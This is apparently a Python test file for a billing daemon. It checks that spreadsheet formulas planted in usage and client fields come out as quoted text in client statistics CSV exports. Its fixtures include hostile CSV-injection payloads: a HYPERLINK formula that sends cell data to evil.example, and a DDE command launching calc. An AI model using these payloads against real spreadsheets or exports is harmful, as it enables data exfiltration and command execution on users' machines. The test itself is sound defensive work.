"""CSV formula injection end to end (issue 14): usage fields written as formulas reach
the statistics file a client receives (``billingctl invoice pdf --format stats-csv``,
``invoice period --stats``) as quoted text; amounts stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.conftest import RunningDaemon, billingctl_ok

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"invoice")', "=cmd|' /C calc'!A0", "@SUM(1+1)")


def _cells(text: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(text, newline="")) if row]


def test_statistics_file_sent_to_a_client_holds_no_formula(
    module_daemon: RunningDaemon, tmp_path: Path
) -> None:
    enterprise = module_daemon.call("enterprise.add", name="CSV Ltd", currency="EUR")
    client = module_daemon.call(
        "client.add",
        name="+cmd|calc",
        enterprise=enterprise["id"],
        company="=1+1",
        send_stats=True,
    )
    module_daemon.call(
        "usage.import",
        source="cdr.csv",
        records=[
            {
                "client": client["id"],
                "occurred_at": f"2026-06-0{day}T10:00:00Z",
                "destination": formula,
                "destination_group": "-Mobile",
                "quantity": "60",
                "unit": "s",
                "amount": "1.25",
            }
            for day, formula in enumerate(FORMULAS, 1)
        ],
    )
    period = {"client": client["id"], "from": "2026-06-01", "to": "2026-06-30"}
    alone = module_daemon.call("invoice.period", stats=True, document=False, **period)
    stats = alone["statistics_csv"]  # the statistics alone (R-INV-1)
    invoice = module_daemon.call("invoice.period", **period)
    target = tmp_path / "stats.csv"
    billingctl_ok(
        module_daemon,
        "invoice",
        "pdf",
        str(invoice["id"]),
        "--format",
        "stats-csv",
        "-o",
        str(target),
    )
    for text in (target.read_text(encoding="utf-8"), stats):
        cells = _cells(text)
        for row in cells:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (cell, row)
        assert ["client", "'+cmd|calc"] in cells and ["company", "'=1+1"] in cells
        assert {row[1] for row in cells if row[-1] == "1.25"} == {"'" + f for f in FORMULAS}
        assert ["total", "", "3", "", "3.75"] in cells
    assert json.dumps(module_daemon.call("usage.list", client=client["id"])).count("'=") == 0
